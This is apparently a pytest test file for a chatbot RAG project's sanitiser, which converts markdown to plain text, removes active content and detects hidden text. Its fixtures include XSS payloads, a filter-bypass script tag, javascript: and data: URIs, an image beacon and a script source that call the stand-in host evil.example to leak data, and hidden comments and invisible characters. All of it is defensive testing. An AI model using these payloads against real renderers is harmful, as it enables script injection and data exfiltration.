"""What is shown of a document is plain text."""

from __future__ import annotations

import pytest

from projects.chatbot_rag.generation.plain import hidden, is_code, plain


@pytest.mark.parametrize(
    ("source", "shown"),
    [
        ("**Bold** and *slanted* and __strong__ and _so_", "Bold and slanted and strong and so"),
        ("`max_depth` and `a * b * c` and ``x`y``", "max_depth and a * b * c and x`y"),
        ("2*3*4 and snake_case_name and σ²·ρ", "2*3*4 and snake_case_name and σ²·ρ"),
        ("see [the design](../design.md) and [this][1]", "see the design and this"),
        ("- an item\n  on two lines", "an item on two lines"),
        ("## A heading", "A heading"),
        ("| a | b |", "a | b"),
        ("> quoted", "quoted"),
        ("p lies in [0, 1] and x[1] is read", "p lies in [0, 1] and x[1] is read"),
    ],
)
def test_markdown_becomes_readable(source: str, shown: str) -> None:
    assert plain(source) == shown


def test_code_blocks_keep_their_lines() -> None:
    assert plain("```python\n>>> x = 1\n>>> x\n1\n```") == ">>> x = 1\n>>> x\n1"
    assert is_code("```\nmake demo\n```")
    assert not is_code("`make demo` starts all")


@pytest.mark.parametrize(
    "source",
    [
        "<script>steal()</script>text",
        "text <img src=x onerror=steal()>",
        "`<svg onload=steal()>` text",
        "text <b",
        "<scr<script>ipt>steal()</script> text",
        "![text](https://evil.example/beacon.png?q=steal)",
        "[text](javascript:steal())",
        "text https://evil.example/?q=steal",
        "text data:text/html;base64,steal",
        "```\n<script src=https://evil.example/steal></script> text\n```",
    ],
)
def test_nothing_active_is_left(source: str) -> None:
    shown = plain(source)
    assert "text" in shown or shown == "ipt>"
    for active in ("<s", "<i", "<b", "](", "https:", "javascript:", "data:", "?q="):
        assert active not in shown


def test_an_address_leaves_its_host() -> None:
    assert plain("Read https://docs.example/a/b?token=1#c.") == "Read docs.example."
    assert plain("Read https://user:secret@docs.example/.") == "Read docs.example."


def test_forged_citation_marks_are_no_citation_marks() -> None:
    assert plain("So it is [1], as said[2] [^3].") == "So it is (1), as said[2] (3)."


def test_invisible_characters_are_removed() -> None:
    assert plain("a\u200bb\u202ec\u2066d\U000e0041e\x00\x1bf") == "abcdef"


@pytest.mark.parametrize(
    "secret",
    [
        "<!-- SECRET -->",
        "<!-- SECRET",
        '<div style="display: none">SECRET</div>',
        "<span hidden>SECRET</span>",
        "<template>SECRET</template>",
        "[//]: # (SECRET)",
    ],
)
def test_what_no_reader_sees_is_known(secret: str) -> None:
    text = f"Before it.\n\n{secret}"
    (start, end), *_ = hidden(text)
    assert "SECRET" in text[start:end]
    assert "Before" not in text[start:end]
    assert "SECRET" not in plain(text)


def test_a_comment_that_began_before_the_passage_is_hidden() -> None:
    text = "SECRET orders. -->\n\nVisible text."
    assert [text[start:end] for start, end in hidden(text)] == ["SECRET orders. -->"]


def test_text_without_markup_is_not_hidden() -> None:
    assert hidden("A hidden layer <b>counts</b>; `<!DOCTYPE>` too, and [text](link).") == []
